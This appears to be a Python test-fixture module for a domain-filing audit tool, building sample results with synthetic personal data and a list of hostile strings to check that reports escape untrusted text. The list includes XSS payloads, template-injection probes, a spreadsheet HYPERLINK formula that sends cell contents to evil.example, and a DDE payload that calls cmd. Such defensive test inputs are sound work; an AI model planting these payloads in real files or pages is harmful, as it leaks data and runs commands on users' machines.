"""A result made by hand: findings of every kind, personal data, and text that wants to do harm."""

from __future__ import annotations

from dataclasses import replace
from datetime import date, datetime, timedelta, timezone

from auditor.model.evidence import DomainEvidence, Dossier, Evidence, Registrants, Stated
from auditor.model.place import CellRef
from auditor.model.plan import Plan
from auditor.model.policy import Policy
from auditor.model.result import (
    AuditResult,
    Expiry,
    Finding,
    Reading,
    RunInfo,
    SetAsideRow,
    SourceCoverage,
    Tally,
)
from auditor.model.text import Personal, PersonalKind, Text, say
from auditor.model.verdict import Reason, Scope, Severity, Verdict
from auditor.model.words import SheetRole
from auditor.planning.plan import make_plan
from tests.builders import PATH, entity_number, id_number, mobile, reading_of, service_number
from tests.judging import rule_data

BEIJING = timezone(timedelta(hours=8))
AS_OF = date(2026, 11, 23)
ID = id_number(7)
PHONE = mobile(13800138)
LANDLINE = "010-62345678"
OWNER = "示例科技有限公司"

# What a stranger may write into a cell, a WHOIS record or a page.
SCRIPT = "<script>alert(1)</script>"
BREAKOUT = "\"'><img src=x onerror=alert(1)></style></textarea>--><svg onload=alert(2)>"
TEMPLATE = "{{ 7*7 }}{% raw %}${7*7}#{7*7}"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
BIDI = "公司\u202egnp.exe\u2066"
HIDDEN = "示例\u200b\u00ad\ufeff公司\u3164"
NUL = "a\x00b\x07c\x1b[31m"
SURROGATE = "lone \ud800 half \udfff"
RICH = "<r><t>rich</t></r>"
ESCAPED = "_x0041_ and _x005F_"
LONG = "长" * 40_000
HOSTILE = (
    SCRIPT, BREAKOUT, TEMPLATE, FORMULA, DDE, "+1+1", "-1+1", "\t=1+1", "\r=1+1", "＝1+1", BIDI, HIDDEN, NUL, SURROGATE,
    RICH, ESCAPED, "javascript:alert(1)", "data:text/html,<b>x", "http://evil.example/\"onmouseover=\"alert(1)",
    "&amp;&lt;", "\ufffe\uffff", "line one\r\nline two\u2028three",
)  # fmt: skip

_CHECKS: dict[str, tuple[str, str, Scope, Severity]] = {
    "REC102": ("备案号书写规范", "The record number is written canonically", Scope.ROW, Severity.LOW),
    "REC113": ("服务号下只有一个域名", "A service number has one domain", Scope.SERVICE, Severity.INFO),
    "OWN201": (
        "域名注册者为备案主体",
        "The domain is registered to the filing entity",
        Scope.DOMAIN,
        Severity.CRITICAL,
    ),
    "OWN205": ("来源一致", "The sources agree", Scope.DOMAIN, Severity.MEDIUM),
    "DOM302": ("域名未临近到期", "The domain does not run out soon", Scope.DOMAIN, Severity.MEDIUM),
    "SYN401": ("持有者一致", "One registrant under a number", Scope.ENTITY, Severity.HIGH),
    "PER503": ("手机号码有效", "The mobile number is valid", Scope.PERSON, Severity.HIGH),
    "DOC601": ("材料在有效期内", "The document is in force", Scope.DOCUMENT, Severity.CRITICAL),
}


def seen(source: str = "whois", server: str = "whois.cnnic.cn", number: int = 1) -> Evidence:
    """A reference to an observation."""
    return Evidence(source, server, datetime(2026, 11, 20, 8, number, tzinfo=BEIJING), f"{number:064x}")


def finding(check: str, target: str, verdict: Verdict = Verdict.FAIL, **changes: object) -> Finding:
    """One finding; whatever is not said is plain."""
    zh, en, scope, severity = _CHECKS[check]
    reason = changes.get("reason", Reason.NO_EVIDENCE if verdict is Verdict.UNKNOWN else None)
    plain = Finding(
        fingerprint=f"{abs(hash_of(check + target)):032x}",
        check=check,
        title=Text(zh, en),
        verdict=verdict,
        severity=severity,
        scope=scope,
        target=target,
        message=(say("{target} 不符合", "{target} is wrong", target=target),),
        reason=reason if isinstance(reason, Reason) else None,
        entity_number=entity_number(1),
        entity_name=OWNER,
        cells=(CellRef(PATH, "台账", 2, 3),),
        basis=(Text("《管理办法》第五条", "Measures, Art. 5"),),
        remedy=(Text("更正台账", "Correct the book"),),
        sort_key=(-severity, verdict is not Verdict.FAIL, check, target),
    )
    return replace(plain, **{key: value for key, value in changes.items() if key != "reason"})  # type: ignore[arg-type]


def hash_of(text: str) -> int:
    """A number for a text, the same in every process."""
    return int.from_bytes(text.encode("utf-8", "surrogatepass"), "big") % (1 << 120)


def sample_reading() -> Reading:
    """Three entities; a shared number; persons, documents, a registrar export; hostile cells; odd rows."""
    filings: list[dict[str, object]] = [
        {
            "entity_number": entity_number(1),
            "entity_name": OWNER,
            "service_number": service_number(1, index),
            "domain": domain,
            "leader_name": "张示例",
            "leader_id_number": ID,
            "leader_mobile": PHONE,
            "leader_office_phone": LANDLINE,
            "remark": f"联系 {PHONE} 证件 {ID}",
            "registrant": OWNER,
        }
        for index, domain in ((1, "a-shili.cn"), (2, "b-shili.cn"), (3, "示例.中国"))
    ]
    filings += [
        {
            "entity_number": entity_number(2),
            "entity_name": text,
            "service_number": service_number(2, 1 + n),
            "domain": f"h{n}.cn",
        }
        for n, text in enumerate(HOSTILE)
    ]
    filings.append(
        {
            "entity_number": entity_number(3),
            "entity_name": "安静有限公司",
            "service_number": service_number(3),
            "domain": "quiet.cn",
        }
    )
    filings.append({"remark": f"以下已移交 {PHONE}"})
    made = reading_of(
        {
            "台账": (SheetRole.FILINGS, filings),
            "材料": (
                SheetRole.DOCUMENTS,
                [
                    {
                        "entity_number": entity_number(1),
                        "document_type": "营业执照",
                        "document_holder": OWNER,
                        "document_expiry": date(2026, 10, 1),
                    },
                    {
                        "entity_number": entity_number(1),
                        "document_type": "身份证",
                        "document_holder": "张示例",
                        "document_number": "11010119900101",
                        "document_expiry": date(2030, 1, 1),
                    },
                ],
            ),
            "注册商": (
                SheetRole.REGISTRAR,
                [
                    {
                        "domain": "a-shili.cn",
                        "registrant": "别家有限公司",
                        "registrant_certificate_type": "身份证",
                        "registrant_certificate_number": ID,
                    }
                ],
            ),
        }
    )
    fate = made.inputs[0]
    aside = SetAsideRow(CellRef(PATH, "台账", 99), Text("合计行, 不是记录", "a totals line"), "合计 | 3 行")
    first = replace(fate.sheets[0], set_aside=(aside,), ignored=("备注2", SCRIPT))
    return replace(
        made,
        inputs=(replace(fate, sheets=(first, *fate.sheets[1:])),),
        rejected=tuple(replace(one, shown=one.shown or f"以下已移交 {PHONE}") for one in made.rejected),
    )


def sample_findings() -> tuple[Finding, ...]:
    """Failures of every severity, hostile ones among them, and an unknown for every reason."""
    shared = (entity_number(1), OWNER)
    found = [
        finding(
            "OWN201",
            "a-shili.cn",
            domain="a-shili.cn",
            service_number=service_number(1),
            message=(say("注册者是 {name}", "The registrant is {name}", name="别家有限公司"),),
            expected=OWNER,
            observed="别家有限公司",
            evidence=(seen(), seen("web", "https://www.a-shili.cn/", 2)),
            due=date(2026, 12, 7),
            start_by=date(2026, 11, 1),
        ),
        finding(
            "DOC601",
            "材料!2",
            severity=Severity.CRITICAL,
            due=date(2026, 11, 23),
            cells=(CellRef(PATH, "材料", 2, 4),),
        ),
        finding(
            "SYN401",
            shared[0],
            message=(say("{names} 各持有一部分", "Held by {names}", names=[OWNER, "别家有限公司"]),),
            due=date(2027, 2, 9),
            estimated=True,
        ),
        finding(
            "PER503",
            f"{shared[0]}/leader",
            message=(
                say(
                    "手机 {phone} 与证件 {id}",
                    "mobile {phone} and ID {id}",
                    phone=Personal(PersonalKind.PHONE, PHONE),
                    id=Personal(PersonalKind.ID_NUMBER, ID),
                ),
                say("备注写着 {text}", "the remark says {text}", text=f"电话 {PHONE}"),
            ),
            observed=Personal(PersonalKind.PHONE, PHONE),
            expected=Text("11 位手机号码", "an 11-digit mobile number"),
        ),
        finding("DOM302", "b-shili.cn", domain="b-shili.cn", severity=Severity.MEDIUM, change="worse"),
        finding("REC102", "台账!3", cells=(CellRef(PATH, "台账", 3, 1),)),
        finding("REC113", service_number(1)),
    ]
    for number, text in enumerate(HOSTILE):
        found.append(
            finding(
                "OWN205",
                f"h{number}.cn",
                domain=f"h{number}.cn",
                entity_number=entity_number(2),
                entity_name=text,
                message=(say("写着 {text}", "It says {text}", text=text),),
                expected=text,
                observed=(text, text),
                evidence=(
                    Evidence("whois", text, None, ""),
                    Evidence("web", text, datetime(2026, 11, 20, tzinfo=BEIJING), "ab" * 32),
                ),
                cells=(CellRef(PATH, "台账", 5 + number, 2), CellRef(PATH, text, 1, 1)),
                detail=None,
                provider=text,
                group=text,
            )
        )
    found.append(
        finding(
            "OWN205",
            "a-shili.cn",
            domain="a-shili.cn",
            observed=LONG,
            message=(say("{text}", "{text}", text=LONG),),
        )
    )
    targets = iter(f"h{number}.cn" for number in range(len(HOSTILE)))
    found += [
        finding("OWN201", next(targets), Verdict.UNKNOWN, reason=reason, entity_number=entity_number(2), entity_name=SCRIPT,
                message=(say("无法判定: {reason}", "Cannot be decided: {reason}", reason=reason.text),))
        for reason in Reason
    ]  # fmt: skip
    return tuple(sorted(found, key=lambda one: one.sort_key))


def tallies_for(reading: Reading, findings: tuple[Finding, ...]) -> tuple[Tally, ...]:
    """Counts that fit the findings: what is neither failed nor unknown has passed."""
    book = reading.portfolio
    totals = {
        Scope.ENTITY: len(book.entities),
        Scope.SERVICE: len(book.services),
        Scope.DOMAIN: len(book.domains),
        Scope.PERSON: len(book.persons),
        Scope.DOCUMENT: len(book.documents),
        Scope.ROW: len(book.rows),
    }
    tallies = []
    for check, (zh, en, scope, severity) in _CHECKS.items():
        failed = sum(1 for one in findings if one.check == check and one.verdict is Verdict.FAIL)
        unknown = sum(1 for one in findings if one.check == check and one.verdict is Verdict.UNKNOWN)
        passed = max(totals[scope] - failed - unknown, 0)
        tallies.append(Tally(check, Text(zh, en), scope, severity, passed, failed, unknown))
    tallies.append(
        Tally(
            "WEB901",
            Text("首页标明备案号", "The page shows the number"),
            Scope.DOMAIN,
            Severity.HIGH,
            enabled=False,
        )
    )
    return tuple(tallies)


def sample_run(**changes: object) -> RunInfo:
    """A run that was complete."""
    run = RunInfo(
        id="20261123T080000-abcd",
        as_of=AS_OF,
        started_at=datetime(2026, 11, 23, 0, 0, 1, tzinfo=timezone.utc),  # noqa: UP017 - a zone that is not Beijing's
        finished_at=datetime(2026, 11, 23, 8, 0, 2, tzinfo=BEIJING),
        version="0.1.0",
        offline=True,
        complete=True,
        evidence_files=(("evidence.jsonl", "cd" * 32, 12),),
        rule_data=(("tlds.csv", "2026-08-31", "list"),),
    )
    return replace(run, **changes)  # type: ignore[arg-type]


def sample_result(**changes: object) -> AuditResult:
    """The whole result."""
    reading = sample_reading()
    findings = sample_findings()
    known = Stated("别家有限公司", seen("registrar", "注册商"))
    result = AuditResult(
        run=sample_run(
            complete=False, incomplete_because=(say("有 {n} 行未能纳入审计", "{n} rows left out", n=1),)
        ),
        reading=reading,
        tallies=tallies_for(reading, findings),
        findings=findings,
        coverage=(
            SourceCoverage(
                "whois", 20, {"timeout": 3, "strange": 1}, 2, seen().fetched_at, seen().fetched_at
            ),
        ),
        evidence_problems=(Text("第 3 行不是 JSON", "line 3 is no JSON"),),
        expiries=(
            Expiry(
                "domain",
                "a-shili.cn",
                "a-shili.cn",
                date(2026, 11, 10),
                OWNER,
                (CellRef(PATH, "台账", 2, 4),),
                seen(),
            ),
            Expiry("document", "材料!2", f"营业执照{SCRIPT}", AS_OF, OWNER, (CellRef(PATH, "材料", 2, 4),)),
            Expiry("domain", "b-shili.cn", "b-shili.cn", date(2027, 3, 1), None, ()),
            Expiry("domain", "quiet.cn", "quiet.cn", date(2030, 3, 1), None, ()),
        ),
        dossier=Dossier({"a-shili.cn": DomainEvidence("a-shili.cn", registrants=Registrants((known,)))}),
    )
    return replace(with_plan(result), **changes)  # type: ignore[arg-type]


def with_plan(result: AuditResult) -> AuditResult:
    """The result with the plan that its findings make."""
    return replace(result, plan=make_plan(result, rule_data(), Policy(result.run.as_of)))


def quiet_result(**changes: object) -> AuditResult:
    """A small book of which everything was looked at and nothing is wrong."""
    reading = reading_of(
        {
            "台账": (
                SheetRole.FILINGS,
                [
                    {
                        "entity_number": entity_number(1),
                        "entity_name": OWNER,
                        "service_number": service_number(1),
                        "domain": "a.cn",
                    }
                ],
            )
        }
    )
    result = AuditResult(
        run=sample_run(),
        reading=reading,
        tallies=(Tally("OWN201", Text("甲", "A"), Scope.DOMAIN, Severity.CRITICAL, passed=1),),
        findings=(),
        coverage=(SourceCoverage("whois", 1, {}, 0),),
        plan=Plan(AS_OF, ()),
    )
    return replace(result, **changes)  # type: ignore[arg-type]


def crowd(failures: int, unknowns: int) -> AuditResult:
    """Many plain findings spread over many entities; counts of the tallies follow, targets do not; no plan."""
    found = [
        finding(
            "OWN205",
            f"d{n}.cn",
            fingerprint=f"{n:032x}",
            entity_number=f"京ICP备{n % 50:08d}号",
            entity_name=f"主体{n % 50}",
        )
        for n in range(failures)
    ]
    found += [
        finding("OWN201", f"u{n}.cn", Verdict.UNKNOWN, fingerprint=f"{1 << 64 | n:032x}", reason=(Reason.WITHHELD, Reason.TIMEOUT)[n % 2],
                entity_number=f"京ICP备{n % 50:08d}号", entity_name=f"主体{n % 50}")
        for n in range(unknowns)
    ]  # fmt: skip
    findings = tuple(sorted(found, key=lambda one: one.sort_key))
    base = quiet_result()
    return replace(base, findings=findings, tallies=tallies_for(base.reading, findings), plan=None)
